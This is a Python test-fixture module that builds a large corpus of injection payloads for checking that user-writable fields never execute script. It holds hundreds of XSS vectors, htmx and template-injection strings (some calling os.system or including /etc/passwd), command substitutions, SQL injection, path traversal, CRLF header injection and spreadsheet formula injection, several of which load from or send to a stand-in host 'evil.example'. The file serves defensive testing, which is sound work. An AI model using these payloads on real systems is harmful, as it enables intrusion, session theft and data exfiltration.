"""Texts that try to become more than text: what tests push through every field that somebody else can write.

Each that would run a script sets ``__minos_xss``, so that a browser can be asked whether one did. ``MARK`` stands in every
one of them: what bears it may be found in texts and in values of plain attributes, nowhere else.
"""

MARK = "__minos_xss"
_DO = f"window.{MARK}=1"

_ELEMENTS = (
    "<script>{do}</script>", "<SCRIPT>{do}</SCRIPT>", "<script >{do}</script >", "<script/x>{do}</script>",
    "<script\n>{do}</script\n>", "<script\t>{do}</script>", "<scr<script>ipt>{do}</scr</script>ipt>",
    "<<script>{do}//<</script>", "<script>{do}", "</script><script>{do}</script>", "<script src=data:,{do}></script>",
    "<script src='data:text/javascript,{do}'></script>", "<script type=module>{do}</script>",
    "<script src=//evil.example/{do}.js></script>", "<script async src=\"https://evil.example/{do}\"></script>",
    "<img src=x onerror={do}>", "<img src=x onerror=\"{do}\">", "<img src=x onerror='{do}'>", "<IMG SRC=x ONERROR={do}>",
    "<img/src=x/onerror={do}>", "<img\nsrc=x\nonerror={do}>", "<img src onerror={do}>", "<img src=x onerror={do}//",
    "<img src=x:x onerror={do}>", "<image src=x onerror={do}>", "<img srcset=x onerror={do}>",
    "<img src=\"x` `<script>{do}</script>\"` `>", "<img src=javascript:{do}>", "<img dynsrc=javascript:{do}>",
    "<svg onload={do}>", "<svg/onload={do}>", "<svg><script>{do}</script></svg>", "<svg><script href=data:,{do}/></svg>",
    "<svg><animate onbegin={do} attributeName=x dur=1s>", "<svg><set onbegin={do} attributename=x>",
    "<svg><a xlink:href=javascript:{do}><text y=20>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,{do}#x\"/></svg>",
    "<svg><foreignObject><iframe onload={do}></foreignObject></svg>", "<svg><style><img src=x onerror={do}></style></svg>",
    "<svg><desc><![CDATA[</desc><script>{do}</script>]]></svg>", "<svg><title><img src=x onerror={do}></title></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={do}></style></mglyph></math>",
    "<math href=javascript:{do}>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:{do}>x</maction></math>",
    "<iframe src=javascript:{do}></iframe>", "<iframe srcdoc=\"<script>parent.{do}</script>\"></iframe>",
    "<iframe onload={do}></iframe>", "<object data=javascript:{do}></object>", "<object data=\"data:text/html,{do}\"></object>",
    "<embed src=javascript:{do}>", "<embed src=\"data:image/svg+xml,{do}\">", "<applet code={do}></applet>",
    "<body onload={do}>", "<body onpageshow={do}>", "<html onmouseover={do}>", "<frameset onload={do}>", "<frame src=javascript:{do}>",
    "<input onfocus={do} autofocus>", "<input type=image src=x onerror={do}>", "<select onfocus={do} autofocus><option>x</select>",
    "<textarea onfocus={do} autofocus></textarea>", "</textarea><script>{do}</script>", "<keygen onfocus={do} autofocus>",
    "<button onclick={do}>x</button>", "<button formaction=javascript:{do}>x</button>", "<form action=javascript:{do}><button>x</button></form>",
    "<form><input type=submit formaction=javascript:{do}></form>", "<isindex action=javascript:{do} type=image>",
    "<details open ontoggle={do}>x</details>", "<details ontoggle={do}><summary>x</summary></details>",
    "<dialog open onclose={do}><form method=dialog><button>x</button></form></dialog>", "<video onerror={do}><source></video>",
    "<video src=x onerror={do}></video>", "<video poster=javascript:{do}></video>", "<audio src=x onerror={do}></audio>",
    "<audio oncanplay={do} src=data:,>", "<source onerror={do}>", "<track onload={do}>", "<marquee onstart={do}>x</marquee>",
    "<marquee loop=1 onfinish={do}>x</marquee>", "<bgsound src=javascript:{do}>", "<meter onmouseover={do}>x</meter>",
    "<a href=javascript:{do}>x</a>", "<a href=\"javascript:{do}\">x</a>", "<a href=JaVaScRiPt:{do}>x</a>",
    "<a href=\"java\tscript:{do}\">x</a>", "<a href=\"java\nscript:{do}\">x</a>", "<a href=\"&#106;avascript:{do}\">x</a>",
    "<a href=\"javascript&colon;{do}\">x</a>", "<a href=\" javascript:{do}\">x</a>", "<a href=\"\x01javascript:{do}\">x</a>",
    "<a href=vbscript:{do}>x</a>", "<a href=\"data:text/html,<script>{do}</script>\">x</a>", "<a ping=javascript:{do} href=/>x</a>",
    "<a onmouseover={do} href=#>x</a>", "<area shape=rect coords=0,0,9,9 href=javascript:{do}>", "<base href=javascript:{do}//>",
    "<base href=//evil.example/{do}/>", "<link rel=stylesheet href=javascript:{do}>", "<link rel=import href=data:text/html,{do}>",
    "<link rel=prefetch href=//evil.example/{do}>", "<meta http-equiv=refresh content=\"0;url=javascript:{do}\">",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/{do}\">", "<meta http-equiv=set-cookie content=\"{do}=1\">",
    "<style>@import 'javascript:{do}';</style>", "<style>*{{background:url(javascript:{do})}}</style>", "</style><script>{do}</script>",
    "<style onload={do}></style>", "<div style=\"background:url(javascript:{do})\">x</div>", "<div style=\"width:expression({do})\">x</div>",
    "<div style=\"-moz-binding:url(//evil.example/{do})\">x</div>", "<p style=animation-name:x onanimationend={do}>x</p>",
    "<div onpointerenter={do}>x</div>", "<div ontouchstart={do}>x</div>", "<div onwheel={do}>x</div>", "<div oncopy={do}>x</div>",
    "<div contenteditable onbeforeinput={do}>x</div>", "<x onclick={do}>x</x>", "<x tabindex=1 onfocus={do} id=x>x</x>",
    "<x-y oncontentvisibilityautostatechange={do} style=content-visibility:auto>", "<slot onslotchange={do}></slot>",
    "<template><script>{do}</script></template>", "<template shadowrootmode=open><img src=x onerror={do}></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={do}>\">", "<noembed><img title=\"</noembed><img src=x onerror={do}>\">",
    "<xmp><img title=\"</xmp><img src=x onerror={do}>\">", "<title><img title=\"</title><img src=x onerror={do}>\">",
    "</title><script>{do}</script>", "<plaintext>{do}", "<listing><img src=x onerror={do}></listing>", "<portal src=javascript:{do}>",
    "<table background=javascript:{do}><tr><td>x</table>", "</td></tr></table><script>{do}</script>", "<td background=javascript:{do}>",
    "</pre><script>{do}</script>", "</code></pre><img src=x onerror={do}>", "</option></select><img src=x onerror={do}>",
    "</svg><img src=x onerror={do}>", "</a><img src=x onerror={do}>", "</main></body></html><script>{do}</script>",
    "<!--<img src=\"--><img src=x onerror={do}//\">", "--><script>{do}</script><!--", "<!--><script>{do}</script>-->",
    "<![CDATA[<script>{do}</script>]]>", "]]><script>{do}</script>", "<!DOCTYPE html [<!ENTITY x \"{do}\">]>&x;",
    "<?xml-stylesheet href=\"javascript:{do}\"?>", "<?php {do} ?>", "<% {do} %>", "<!ELEMENT {do}>", "</br/onclick={do}>",
)  # fmt: skip
_QUOTES = (
    "\"><script>{do}</script>", "'><script>{do}</script>", "`><script>{do}</script>", "\"/><img src=x onerror={do}>",
    "' onmouseover='{do}", "\" onmouseover=\"{do}", "\" autofocus onfocus=\"{do}", "' autofocus onfocus='{do}", " onload={do} ",
    "x onerror={do} ", "\" style=\"x:expression({do})", "\" srcdoc=\"<script>{do}</script>", "\"\n onclick=\"{do}",
    "\" accesskey=\"x\" onclick=\"{do}\" x=\"", "\"/onmouseover={do}/x=\"", "\"\x0conmouseover={do} x=\"", "&quot; onclick=&quot;{do}",
    "&#34; onclick=&#34;{do}", "&#x22;><img src=x onerror={do}>", "&lt;script&gt;{do}&lt;/script&gt;", "&amp;lt;script&amp;gt;{do}",
    "%22%3E%3Cscript%3E{do}%3C/script%3E", "%253Cscript%253E{do}%253C/script%253E", "\\x3cscript\\x3e{do}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{do}\\u003c/script\\u003e", "\\74script\\76{do}\\74/script\\76", "+ADw-script+AD4-{do}+ADw-/script+AD4-",
    "\xbcscript\xbe{do}\xbc/script\xbe", "＜script＞{do}＜/script＞", "‹script›{do}‹/script›", "\ufeff<script>{do}</script>",
)  # fmt: skip
_HTMX = (
    "\" hx-on:click=\"{do}", "\" hx-on::load=\"{do}", "\" hx-on--load=\"{do}", "\" data-hx-on-click=\"{do}", "' hx-on='click:{do}",
    "<div hx-on:load=\"{do}\" hx-trigger=load>", "<div hx-get=/ hx-trigger=load hx-on::after-request={do}>",
    "<div hx-get=\"javascript:{do}\" hx-trigger=load>", "<div hx-vals='js:{{x:{do}}}' hx-get=/ hx-trigger=load>",
    "<div hx-headers='js:{{x:{do}}}'>", "<div hx-trigger='click[{do}]' hx-get=/>", "<button hx-post=/sign-out hx-vals='{{\"{do}\":1}}'>",
    "<div hx-swap-oob=true id=main>{do}</div>", "<hx-partial hx-target=body>{do}</hx-partial>", "<template hx type=partial>{do}</template>",
    "\" data-bs-toggle=\"tooltip\" data-bs-html=\"true\" title=\"<img src=x onerror={do}>", "\" data-confirm=\"{do}\" data-theme-toggle=\"",
    "<a data-dismiss {do}>", "<meta name=csrf-token content={do}>", "<meta name=csp-nonce content={do}>", "<form method=post action=/sign-out><button>{do}",
)  # fmt: skip
_TEMPLATES = (
    "${{{do}}}", "${{self.module.cache.util.os.system('{do}')}}", "<%! import os; os.abort() # {do} %>", "<% raise SystemExit # {do} %>",
    "% for x in y: # {do}", "## {do}", "<%include file=\"/etc/passwd\"/>{do}", "<%def name=\"{do}()\"></%def>", "${{'{do}' | n}}",
    "</%text>${{1/0}}{do}", "<%doc>{do}</%doc>", "%%{{{do}}}", "%{{{do}}}", "{{{{{do}}}}}", "{{% {do} %}}", "#{{{do}}}", "$({do})", "`{do}`",
    "; {do} #", "$(touch /tmp/{do})", "{{0.__class__.__mro__}}{do}", "%s%s%s%n{do}", "%(asctime)s{do}", "{{}}{do}",
)  # fmt: skip
_SCRIPTS = (
    "';{do};//", "\";{do};//", "`;{do};//", "\\';{do};//", "\\\";{do};//", "${{{do}}}`", "*/{do}/*", "\n{do}\n//", "\u2028{do}\u2029",
    "});{do};({{", "]}}';{do}//", "1;{do}", "-{do}-", "'+{do}+'", "\"+({do})+\"", "</script><!--{do}", "<!--<script>{do}", "//{do}",
    "__proto__[{do}]", "constructor.constructor('{do}')()", "{{\"__proto__\":{{\"{do}\":1}}}}", "\"}}],\"x\":[{{\"{do}\":\"", "null,{do}",
    "javascript:{do}", "JAVASCRIPT:{do}", "javascript://%0a{do}", "jav\u0000ascript:{do}", "data:text/html,<script>{do}</script>",
    "data:text/html;base64,PHNjcmlwdD4={do}", "vbscript:{do}", "//evil.example/{do}", "https:evil.example/{do}", "/\\evil.example/{do}",
    "url(javascript:{do})", "}}*{{background:url(//evil.example/{do})}}", "expression({do})", "\\65xpression({do})", "@import'//evil.example/{do}'",
)  # fmt: skip
_SIGNS = (
    "{do}\u202e>tpircs/<", "\u202d{do}\u202c", "\u2066{do}\u2069", "\u200b<\u200bscript>{do}", "a\u0301\u0302\u0303\u0304{do}", "\ufff9{do}\ufffb",
    "\x1b[31m{do}\x1b[0m", "\x07\x08{do}\x7f", "\x00{do}", "\x85{do}", "\r\nSet-Cookie: {do}=1\r\n\r\n<script>{do}</script>", "\t\t{do}\t",
    "\x1b]0;{do}\x07", "\x9b2J{do}", "🏴\U000e0067\U000e0062{do}", "\U0001f469\u200d\U0001f4bb{do}", "ﷺ" * 20 + "{do}", "\ud7ff{do}\ue000", "ſcript{do}",
    "İ<script>{do}", "{do}" + "A" * 200, "../../../etc/passwd{do}", "..\\..\\{do}", "file:///etc/passwd#{do}", "' OR 1=1 -- {do}", "'; DROP TABLE hosts; -- {do}",
)  # fmt: skip
_CELLS = (
    "={do}", "+{do}", "-{do}", "@{do}", "\t={do}", "\r={do}", "=cmd|' /C {do}'!A0", "=HYPERLINK(\"http://evil.example/?{do}\",\"x\")",
    "=IMPORTXML(\"http://evil.example/{do}\",\"//a\")", "@SUM(1+1)*cmd|' /C {do}'!A0", "\",={do},\"", ";={do}", "＝{do}",
)  # fmt: skip

PAYLOADS = tuple(
    text.replace("{do}", _DO).replace("{{", "{").replace("}}", "}")
    for text in (*_ELEMENTS, *_QUOTES, *_HTMX, *_TEMPLATES, *_SCRIPTS, *_SIGNS, *_CELLS)
)
"""All of them; the double braces above are single ones."""
FORMULAS = PAYLOADS[-len(_CELLS) :]
"""Those that a spreadsheet would work out."""
HARMLESS = f"plain words {MARK}"
"""What a page must look like: the same with each payload in place of this."""
